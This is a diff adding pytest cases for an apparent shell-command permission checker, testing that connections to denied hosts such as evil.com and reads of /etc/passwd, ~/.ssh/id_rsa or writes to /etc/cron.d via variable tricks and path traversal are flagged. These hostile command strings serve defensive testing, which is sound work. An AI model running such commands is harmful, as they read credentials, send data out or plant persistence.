@@ -225,3 +225,133 @@ def test_variables_that_decide_what_runs_are_noticed_however_they_are_set(
 def test_unsetting_what_programs_and_settings_depend_on_is_asked_about(name: str) -> None:
     assert decide_shell(f"unset {name}; git status", POLICY).verdict == "ask"
     assert decide_shell("unset x; ls", POLICY).verdict == "allow"
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        *('curl "$x"', "curl $x", "curl $x.evil.com", 'curl "evil$x"', 'curl "https://$x"'),
+        *('curl "https://$x/y"', 'curl "https://good.com$x/"', 'curl "https://good.com:$x/"'),
+        *('curl "https://$u@good.com"', "curl -K conf", "curl -sKconf", "curl --url @urls"),
+        *('curl -x "$p" good.com', 'curl --resolve "good.com:443:$x" https://good.com'),
+        *('curl -s"$x" good.com', "cat urls | xargs curl", "wget -i urls", 'wget "http://$h/x"'),
+        *('http GET "$x"', 'nc "$h" 80', 'ssh "$h"', 'ssh -J "$j" good.com', 'scp a "$h:b"'),
+        *('ssh -o HostName="$h" good.com', 'git clone "$x"', 'git clone "git@$h:y"'),
+        *('git push "$remote"', 'git remote add o "$x"', "echo a > /dev/tcp/$h/80", 'exec 3<>"$x"'),
+        *('socat - "TCP:$h:80"', 'socat - "$x"', "https_proxy=$x curl good.com", 'ping "$h"'),
+        *('export http_proxy="$x"; npm ci', 'h=$(cat h); curl "$h/x"', "redis-cli -h evil.com"),
+        *("psql -h evil.com", 'psql "host=evil.com dbname=x"', "psql postgres://u@evil.com/db"),
+        *("docker pull evil.com:5000/x", "npm i --registry evil.com", "whois evil.com"),
+        *('pip install --index-url "https://$h/simple" x', "for h in $(cat h); do curl $h; done"),
+    ],
+)
+def test_a_host_that_is_not_known_is_asked_about_if_a_rule_denies_one(command: str) -> None:
+    assert decide_shell(command, NOT_EVIL).verdict == "ask"
+    assert decide_shell(command, EVERYTHING).verdict == "allow"
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        *('curl "https://good.com/$x"', 'curl "good.com/$x"', 'curl -H "$h" https://good.com'),
+        *('curl -d "$x" -o "$y" https://good.com', 'ssh good.com "ls $x"', 'ssh -i "$k" good.com'),
+        *('git push origin "$branch"', 'git -C "$d" fetch', 'git commit -m "$x"', "npm ci"),
+        *("mkdir evil.com", "sed -i s/evil.com/x/ a", 'git commit -m "evil.com is bad"'),
+        *("for h in a.com b.com; do curl $h/x; done", "echo a > out-$x", "socat tcp-l:1 -"),
+    ],
+)
+def test_a_rule_that_denies_a_host_asks_about_nothing_that_connects_elsewhere(command: str) -> None:
+    assert decide_shell(command, NOT_EVIL).verdict == "allow"
+
+
+def test_an_unknown_path_is_asked_about_if_a_rule_denies_one_of_that_host() -> None:
+    policy = msgspec.structs.replace(EVERYTHING, deny=rules("url(evil.com/secret)"))
+    assert decide_shell('curl "https://evil.com/$x"', policy).verdict == "ask"
+    assert decide_shell('curl "evil.com/public/$x"', policy).verdict == "ask"
+    assert decide_shell('curl "https://good.com/$x"', policy).verdict == "allow"
+
+
+def test_the_sandbox_itself_keeps_confined_commands_from_denied_hosts() -> None:
+    policy = msgspec.structs.replace(NOT_EVIL, confined=True)
+    assert decide_shell('curl "$x"', policy).verdict == "allow"
+
+
+ALL_TOOLS = msgspec.structs.replace(POLICY, allow_all_tools=True, allow_destructive=True)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        *("cp a /nowhere/x", "touch /nowhere", "mkdir -p /nowhere/x", "mv a /nowhere/x"),
+        *("tee /nowhere/x", "dd of=/nowhere/x", "ln -s a /nowhere/x", "install a /nowhere/x"),
+        *("tar xf a.tar -C /nowhere", "tar xf a.tar -C/nowhere", "tar cf /nowhere/x.tar a"),
+        *("unzip a -d /nowhere", "rsync -a a /nowhere/", "chmod 700 /nowhere/x", "rm /nowhere/x"),
+        *("git clone http://a.test/x /nowhere/x", "git -C /nowhere status", "git init /nowhere"),
+        *("npm --prefix /nowhere i", "npm --prefix=/nowhere i", "wget -P /nowhere http://a.test"),
+        *("sed -i s/a/b/ /nowhere/x", "make -C /nowhere", "docker run -v /nowhere:/x i"),
+        *("sudo -D /nowhere touch x", "env -C /nowhere touch x", "tool --output-dir=/nowhere"),
+    ],
+)
+def test_a_folder_at_the_top_is_outside_whatever_it_is_called(command: str) -> None:
+    assert decide_shell(command, ALL_TOOLS).verdict == "ask"
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        *('cat "$x"/etc/passwd', "cat $1/etc/passwd", 'cat "$1"/etc/passwd', 'cat "$1/etc/passwd"'),
+        *('cat "$@"/etc/passwd', 'cat "${x}/etc/passwd"', "cat ${x:-~/.ssh/id_rsa}"),
+        *("cat ${x:-$HOME/.ssh/id_rsa}", "cat ${x:-${HOME}/.ssh/a}", 'cat "${x:-"/etc/passwd"}"'),
+        *("cat ${x/#//etc/passwd}", "cat ${PWD/srv*/etc/passwd}", "cat ${PWD%/*}/../etc/passwd"),
+        *("cat < $x/etc/passwd", 'cat < "$1/etc/passwd"', "cat < ${x:-~/.ssh/id_rsa}"),
+        *("cat 'x y/../../../etc/passwd'", "cat < 'x y/../../../etc/passwd'"),
+        *(
+            "cp 'x y/../../../etc/passwd' b",
+            "tool 'x y/../../../etc/passwd'",
+            "cat $'x\\n/../../../etc/passwd'",
+        ),
+        *(
+            "x=$(true); cat $x/etc/passwd",
+            "read x < a; cat $x/etc/passwd",
+            "cat $(true)/etc/passwd",
+        ),
+        *('cat "$(pwd)/../../etc/passwd"', "echo x > $x/etc/passwd", 'echo x > "$1/etc/cron.d/x"'),
+        *('cp a "$x/etc/cron.d/x"', "cp a ${x:-/etc/cron.d/x}", 'cat "$x$y/etc/passwd"'),
+        *("x=a; unset x; cat $x/etc/passwd", 'x=a; unset "$y"; cat $x/etc/passwd'),
+        *("x=src; f() { local x; cat $x/etc/passwd; }; f", "IFS=,; x=a,/etc/passwd; cat $x"),
+        *("x=a; eval x=/etc/passwd; cat $x", "x=a; trap 'x=/etc/passwd' DEBUG; cat $x"),
+        "IFS=:; x=a:/etc/passwd:b; cat $x",
+    ],
+)
+def test_a_path_that_may_be_outside_is_asked_about_with_all_tools(command: str) -> None:
+    assert decide_shell(command, ALL_TOOLS).verdict == "ask"
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        *(
+            "gh api /repos/x",
+            "curl -d /nowhere http://a.test",
+            "grep /nowhere a",
+            "awk '/nowhere/' a",
+        ),
+        *("sed 's,x,/nowhere/y,' a", "kubectl get --raw /api/v1", "docker run -w /nowhere i ls"),
+        *("cut -d/ -f2 a", "tr -d / < a", 'cat "$dir/src/a.py"', '"$VENV"/bin/python -m pytest'),
+        *("for f in $(ls); do cat $f/package.json; done", 'f() { cp "$1/lib/x" b; }; f src'),
+        *("while IFS= read -r l; do echo $l; done < a", 'cat "$(pwd)/src/a.py"', "ls $(pwd)"),
+        *(
+            "root=$(git rev-parse --show-toplevel); cat $root/src/a",
+            "cat 'a b/c'",
+            "unset x; ls $x",
+        ),
+        *(
+            "git commit -m 'see ../../../x for more'",
+            "x='a b'; cat \"$x\"",
+            "x=$(mktemp); cat $x/a",
+        ),
+    ],
+)
+def test_a_text_that_only_looks_like_a_path_is_not_asked_about_with_all_tools(command: str) -> None:
+    decision = decide_shell(command, ALL_TOOLS)
+    assert decision.verdict == "allow", decision.reason
